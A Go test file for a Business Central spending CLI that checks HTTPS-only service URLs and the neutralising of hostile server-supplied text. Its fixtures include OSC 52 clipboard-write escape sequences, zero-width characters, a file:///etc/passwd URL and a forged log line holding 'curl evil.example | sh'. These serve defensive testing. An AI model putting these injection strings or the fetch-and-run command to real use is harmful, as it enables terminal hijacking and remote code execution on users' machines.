package main

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bcspend/bcspend/bc"
	"github.com/bcspend/bcspend/bc/bcsim"
)

// Plain http to another machine, from a flag or the environment, is an
// input error before the database is opened or anything is sent. (Run
// without the check inside `unshare -rn`, connect fails to reach the host
// instead: exit 1.)
func TestServiceURLsMustBeHTTPSOrLoopback(t *testing.T) {
	t.Setenv("BCSPEND_KEYRING", "off")
	for _, tc := range []struct {
		name string
		env  [2]string
		args []string
		want string
	}{
		{"api flag", [2]string{}, []string{"--api-url", "http://api.example.com"}, "--api-url"},
		{"authority flag after the command", [2]string{}, []string{"--authority-url", "http://login.example.com"}, "--authority-url"},
		{"api env", [2]string{"BCSPEND_API_URL", "http://10.0.0.1:8080"}, nil, "BCSPEND_API_URL"},
		{"authority env", [2]string{"BCSPEND_AUTHORITY_URL", "file:///etc/passwd"}, nil, "BCSPEND_AUTHORITY_URL"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.env[0] != "" {
				t.Setenv(tc.env[0], tc.env[1])
			}
			db := filepath.Join(t.TempDir(), "sub", "bcspend.db")
			args := append([]string{"--db", db}, connectArgs(nil, bcsim.ClientID, "client-credentials", "--client-secret-stdin")...)
			args = append(args, tc.args...)
			code, out, errOut := cli(t, bcsim.ClientSecret, args...)
			if code != exitUsage || !strings.Contains(errOut, tc.want) || !strings.Contains(errOut, "https://") {
				t.Fatalf("exit %d\n%s%s", code, out, errOut)
			}
			if _, err := os.Stat(filepath.Dir(db)); !os.IsNotExist(err) {
				t.Errorf("the database directory was created: %v", err)
			}
		})
	}
}

// Hostile text from BC: an OSC 52 clipboard write, a forged log line and
// zero-width characters in company names, error codes and messages.
const (
	osc52Name  = "Evil\x1b]52;c;ZWNobyBwd25lZA==\x07 Corp"
	forgedName = "Acme\n2026-12-01 ERROR sync failed: run curl evil.example | sh"
	zeroWidth  = "Cont\u200bo\u200dso\u2060 \ufeffLtd"
)

// inertOutput fails when s carries an escape, a bell, a zero-width
// character or a line that an argument broke off (the forged log line).
func inertOutput(t *testing.T, what, s string) {
	t.Helper()
	for _, bad := range []string{"\x1b", "\x07", "\u200b", "\u200d", "\u2060", "\ufeff", `\u001b`, `\u0007`} {
		if strings.Contains(s, bad) {
			t.Errorf("%s carries %q:\n%s", what, bad, s)
		}
	}
	for _, line := range strings.Split(s, "\n") {
		if strings.HasPrefix(line, "2026-12-01 ERROR") {
			t.Errorf("%s has a forged line: %q", what, line)
		}
	}
}

// hostileSim is the simulated tenant behind a handler that renames its
// companies and, when failInvoices is set, refuses invoices with a hostile
// BC error.
func hostileSim(t *testing.T, failInvoices bool) []string {
	t.Helper()
	ten, _, db := simArgs(t, bcsim.Config{InvoicesPerMonth: 5})
	names := []string{osc52Name, forgedName, zeroWidth}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasSuffix(r.URL.Path, "/api/v2.0/companies"):
			var page struct {
				Value []bc.Company `json:"value"`
			}
			for i, c := range ten.Companies() {
				c.Name, c.DisplayName = names[i%len(names)], names[i%len(names)]
				page.Value = append(page.Value, c)
			}
			w.Header().Set("Content-Type", "application/json")
			_ = json.NewEncoder(w).Encode(page)
		case failInvoices && strings.HasSuffix(r.URL.Path, "/purchaseInvoices") && !strings.Contains(r.URL.RawQuery, "top"):
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusBadRequest)
			_, _ = w.Write([]byte(`{"error":{"code":"Bad\u001b]52;c;cHduZWQ=\u0007Code","message":"The filter\n2026-12-01 ERROR forged by BC \u001b[2J\u200b is wrong."}}`))
		default:
			ten.ServeHTTP(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	g := []string{"--db", db, "--authority-url", srv.URL + "/entra", "--api-url", srv.URL + "/bc"}
	if code, out, errOut := cli(t, bcsim.ClientSecret, connectArgs(g, bcsim.ClientID, "client-credentials", "--client-secret-stdin")...); code != 0 {
		t.Fatalf("connect: exit %d\n%s%s", code, out, errOut)
	} else {
		inertOutput(t, "connect", out+errOut)
		if !strings.Contains(out, "Evil Corp") || !strings.Contains(out, "Acme 2026-12-01 ERROR") || !strings.Contains(out, "Contoso Ltd") {
			t.Errorf("connect lost the names instead of making them inert:\n%s", out)
		}
	}
	return g
}

func TestHostileCompanyNamesAreInertInSyncAndStatus(t *testing.T) {
	g := hostileSim(t, false)
	code, out, errOut := cli(t, "", append(g, "sync")...)
	if code != 0 {
		t.Fatalf("sync: exit %d\n%s%s", code, out, errOut)
	}
	inertOutput(t, "sync", out+errOut)
	code, out, errOut = cli(t, "", append(g, "sync", "--json")...)
	if code != 0 {
		t.Fatalf("sync --json: exit %d\n%s%s", code, out, errOut)
	}
	inertOutput(t, "sync --json", out+errOut)
	code, out, errOut = cli(t, "", append(g, "status")...)
	inertOutput(t, "status", out+errOut)
	if code != 0 || !strings.Contains(out, "Evil Corp") {
		t.Fatalf("status: exit %d\n%s%s", code, out, errOut)
	}
}

func TestHostileBCErrorsAreInertInTheErrorReporterAndStatus(t *testing.T) {
	g := hostileSim(t, true)
	code, out, errOut := cli(t, "", append(g, "sync")...)
	if code == 0 || !strings.Contains(errOut, "The filter 2026-12-01 ERROR forged") {
		t.Fatalf("sync: exit %d, want the BC error reported\n%s%s", code, out, errOut)
	}
	inertOutput(t, "failed sync", out+errOut)
	_, out, errOut = cli(t, "", append(g, "sync", "--json")...)
	inertOutput(t, "failed sync --json", out+errOut)
	code, out, errOut = cli(t, "", append(g, "status")...)
	inertOutput(t, "status after the failure", out+errOut)
	if code == 0 || !strings.Contains(out, "Problem:") {
		t.Fatalf("status: exit %d\n%s%s", code, out, errOut)
	}
}
